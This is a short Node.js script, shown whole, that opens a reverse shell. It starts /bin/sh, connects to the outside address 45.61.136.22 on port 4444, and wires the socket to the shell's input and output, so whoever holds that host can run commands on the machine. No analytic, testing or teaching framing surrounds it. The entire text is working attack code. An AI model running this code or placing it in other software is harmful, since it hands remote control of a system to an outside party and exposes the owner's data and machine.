const net = require("net");
const { spawn } = require("child_process");
const sh = spawn("/bin/sh", []);
const client = net.connect(4444, "45.61.136.22", () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
});
